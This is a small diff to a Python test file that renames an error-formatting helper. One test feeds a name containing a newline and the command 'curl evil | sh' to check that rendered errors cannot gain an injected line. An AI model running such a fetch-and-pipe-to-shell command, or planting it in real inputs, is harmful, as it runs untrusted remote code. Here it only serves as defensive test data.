@@ -18,7 +18,7 @@ from support import environment
 from unit.launch.scripted import record_for
 
 from eke.cli import main
-from eke.common.errors import ConfigError, Problem, of_system
+from eke.common.errors import ConfigError, Problem, format_os_error
 from eke.common.paths import RunPaths
 from eke.models.checkpoints.locate import Located
 from eke.models.checkpoints.resolve import _conversion
@@ -108,7 +108,7 @@ def test_errors_of_every_kind_are_clean(tmp_path) -> None:
 def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
     problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
     assert len(ConfigError(problem).render().splitlines()) == 4
-    assert "\n" not in of_system(FileNotFoundError(2, "No such file", "a\nb"))
+    assert "\n" not in format_os_error(FileNotFoundError(2, "No such file", "a\nb"))
 
 
 @pytest.mark.parametrize(
